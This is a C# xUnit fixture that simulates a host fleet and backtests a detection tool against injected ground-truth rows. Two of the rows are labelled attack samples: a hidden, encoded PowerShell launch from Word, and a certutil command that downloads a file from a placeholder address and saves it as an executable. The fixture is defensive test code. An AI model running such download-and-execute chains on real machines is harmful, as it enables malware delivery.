using System.Text;
using System.Text.Json;
using Changeling.TestSupport;

[assembly: AssemblyFixture(typeof(Changeling.Cli.Tests.Backtest.BacktestFleet))]

namespace Changeling.Cli.Tests.Backtest;

/// <summary>
/// A small simulated fleet with two attacks and injected rows of our own making, and the report of its backtest, made once for all tests;
/// files that they add have names of their own.
/// </summary>
public sealed class BacktestFleet : IAsyncLifetime
{
    internal Scratch Folder { get; } = new();

    internal Outcome Outcome { get; private set; } = new(-1, "", "");

    /// <summary>The report with findings as alerts.</summary>
    internal JsonElement Report { get; private set; }

    internal Outcome IncidentOutcome { get; private set; } = new(-1, "", "");

    /// <summary>The report with incidents as alerts.</summary>
    internal JsonElement Incidents { get; private set; }

    internal IReadOnlyList<JsonElement> Truth => Lines("truth.jsonl");

    internal IReadOnlyList<JsonElement> Detections => Lines("detections.jsonl");

    /// <summary>What is sent where incidents are alerts: findings, and messages about incidents.</summary>
    internal IReadOnlyList<JsonElement> Sent => Lines("sent.jsonl");

    /// <summary>Two chains of two steps, and a look-alike.</summary>
    internal static byte[] Rows => Encoding.UTF8.GetBytes(string.Join(
        '\n',
        Row(
            "made/chain",
            1,
            "winword.exe",
            "powershell.exe",
            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            "2020-01-01T10:00:00Z"),
        Row(
            "made/chain",
            1,
            "powershell.exe",
            "certutil.exe",
            "certutil -urlcache -split -f http://192.0.2.7/a.txt C:\\Users\\Public\\a.exe",
            "2020-01-01T10:01:00Z"),
        Row("made/unclear", null, "cmd.exe", "unclear.exe", "unclear", "2020-01-01T10:00:00Z"),
        Row("made/agent", 0, "agent.exe", "cmd.exe", "cmd /c ver", null)));

    public async ValueTask InitializeAsync()
    {
        Folder.Write("rows.jsonl", Rows);
        (await Terminal.RunAsync(
            Folder, "simulate", "--hosts", "7", "--hours", "20", "--attacks", "2", "--format", "mixed", "--inject", "rows.jsonl",
            "--output", "fleet.jsonl", "--truth", "truth.jsonl")).Succeeded();
        Outcome = (await Terminal.RunAsync(
            Folder, "backtest", "fleet.jsonl", "--alerts", "findings", "--truth", "truth.jsonl", "--emit-after", "6", "--budget", "12/day",
            "--json", "report.json", "--output", "detections.jsonl")).Succeeded();
        Report = Json("report.json");
        IncidentOutcome = (await Terminal.RunAsync(
            Folder, "backtest", "fleet.jsonl", "--truth", "truth.jsonl", "--emit-after", "6", "--budget", "12/day", "--json",
            "incidents.json", "--output", "sent.jsonl")).Succeeded();
        Incidents = Json("incidents.json");
    }

    internal JsonElement Json(string name) => JsonDocument.Parse(Folder.Read(name)).RootElement;

    public ValueTask DisposeAsync()
    {
        Folder.Dispose();
        return ValueTask.CompletedTask;
    }

    private List<JsonElement> Lines(string name) => [.. File.ReadLines(Folder[name]).Select(line => JsonDocument.Parse(line).RootElement)];

    private static string Row(
        string dataset, int? label, string parent, string child, string commandLine, string? time) => JsonSerializer.Serialize(
        new Dictionary<string, object?>
        {
            ["dataset"] = dataset,
            ["label"] = label,
            ["time"] = time,
            ["host"] = "LAB1",
            ["user"] = @"LAB1\tester",
            ["integrity_level"] = "Medium",
            ["process_name"] = child,
            ["process_executable"] = $@"C:\Windows\System32\{child}",
            ["command_line"] = commandLine,
            ["parent_name"] = parent,
            ["parent_executable"] = $@"C:\Program Files\{parent}",
        });
}
